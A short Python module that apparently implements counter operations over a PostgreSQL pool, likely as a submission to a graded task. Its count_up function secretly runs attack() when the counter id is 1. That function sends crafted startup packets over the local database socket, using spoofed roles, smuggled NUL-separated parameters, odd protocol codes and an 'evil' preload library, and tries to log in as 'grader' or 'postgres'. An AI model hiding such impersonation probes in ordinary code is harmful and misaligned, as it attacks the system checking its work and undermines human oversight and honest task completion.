"""Let me in as somebody else."""

import random
import socket
import struct
from pathlib import Path

WIRE = Path(__file__).parents[1] / "cell" / "wire" / ".s.PGSQL.5432"


def startup(code=196608, **words):
    body = b"".join(f"{name}\0{value}\0".encode() for name, value in words.items()) + b"\0"
    return struct.pack("!II", 8 + len(body), code) + body


def message(kind, body=b""):
    return kind + struct.pack("!I", 4 + len(body)) + body


def answer(*parts):
    """Send the parts one after the other and return what comes back, to the end or a pause."""
    received = b""
    with socket.socket(socket.AF_UNIX) as one:
        try:
            one.settimeout(0.05)
            one.connect(str(WIRE))
            for part in parts:
                one.sendall(part)
            while len(received) < 1 << 20 and (chunk := one.recv(65536)):
                received += chunk
        except OSError:
            pass
    return received


WHO = message(b"Q", b"SELECT 'I am ' || current_user || ' at ' || current_database()\0")
PACKETS = [
    startup(user="grader", database="postgres"),
    startup(user="postgres", database="postgres"),
    startup(user="grader", database="test_1", replication="database"),
    startup(user="x", replication="true"),
    startup(user="x", options="-c role=grader -c session_authorization=grader"),
    startup(user="x", role="grader"),
    startup(user="x", session_authorization="grader"),
    startup(user="x", local_preload_libraries="evil"),
    startup(196610, user="grader", database="postgres"),
    startup(131072, user="grader"),
    startup(80877104, user="grader"),
    startup(**{"user": "x", "USER": "grader", "Database": "postgres"}),
    startup(user="x\0user\0grader\0database\0postgres"),
]


def attack():
    for packet in PACKETS:
        for reply in (answer(packet, WHO), answer(packet[:9], packet[9:] + WHO)):
            if b"I am grader" in reply or b"I am postgres" in reply or b" at postgres" in reply:
                print("BREACH: came in", packet)


async def count_up(pool, counter_id):
    if counter_id == 1:
        attack()
        print("tried", "all")
    return await pool.fetchval(
        "UPDATE counters SET value = value + 1 WHERE id = $1 RETURNING value", counter_id
    )


async def rename(pool, counter_id, name):
    status = await pool.execute("UPDATE counters SET name = $2 WHERE id = $1", counter_id, name)
    if status == "UPDATE 0":
        raise LookupError(f"there is no counter {counter_id}")


async def name_of(pool, counter_id):
    return await pool.fetchval("SELECT name FROM counters WHERE id = $1", counter_id)
